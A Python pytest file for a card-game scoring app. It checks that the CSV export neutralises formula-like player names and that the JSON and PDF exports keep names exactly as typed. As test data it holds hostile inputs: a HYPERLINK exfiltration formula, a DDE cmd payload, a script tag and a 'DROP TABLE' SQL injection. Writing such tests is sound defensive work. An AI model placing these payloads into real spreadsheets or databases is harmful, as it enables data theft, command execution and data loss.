"""Players named like formulas, markup or SQL: the CSV opens as text in a
spreadsheet (OWASP's CSV-injection rule), while the JSON export and the PDF show each name
exactly as it was typed, as text."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from sheet_samples import SAMPLES, Sample
from sheet_support import HttpGame, pdf_text

FORMULA_NAMES = ('=HYPERLINK("http://x/?"&A1,"y")', "+cmd|' /C calc'!A0", "@SUM(1+1)")
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
TEXT_COLUMNS = ("dealer", "column", "label", "marks", "events")


def _rows(game: HttpGame) -> list[dict[str, str]]:
    response = game.get(".csv")
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(response.data.decode("utf-8"), newline="")))


def test_the_csv_of_players_named_like_formulas_opens_as_text(client: Any) -> None:
    game = HttpGame(client, Sample("mitigatti-3", FORMULA_NAMES, SAMPLES["mitigatti-3"].hands))
    rows = _rows(game)
    assert rows
    for row in rows:
        for column in TEXT_COLUMNS:
            assert not row[column].startswith(FORMULA_STARTS), (column, row[column])
    assert {row["label"] for row in rows} == {"'" + name for name in FORMULA_NAMES}
    assert {row["dealer"] for row in rows} <= {"'" + name for name in FORMULA_NAMES}
    # Numbers are not text: a negative marca stays a number a spreadsheet can add.
    assert any(row["marca"].startswith("-") for row in rows)
    assert sum(int(row["marca"]) for row in rows) == 0


@pytest.mark.parametrize("name", ["-2+3", "@Anna", "=1+1"])
def test_every_text_column_is_neutralised_not_only_the_names(client: Any, name: str) -> None:
    players = (name, "Bruno", "Carla")
    game = HttpGame(client, Sample("gatti-3", players, SAMPLES["gatti-3"].hands))
    for row in _rows(game):
        for column in TEXT_COLUMNS:
            assert not row[column].startswith(FORMULA_STARTS), (column, row[column])
    assert game.state()["players"][0] == name.strip()


def test_the_json_export_and_the_pdf_show_hostile_names_as_typed(client: Any) -> None:
    players = ('=HYPERLINK("http://x/?"&A1,"y")', "<b>Bruno</b> & <script>x()</script>",
               "Carla'); DROP TABLE games;--")
    game = HttpGame(client, Sample("gatti-3", players, SAMPLES["gatti-3"].hands))
    exported = game.get(".json").json
    assert exported["game"]["players"] == list(players)
    text = pdf_text(game.get("/sheet.pdf").data)
    for name in players:
        assert name in text, name
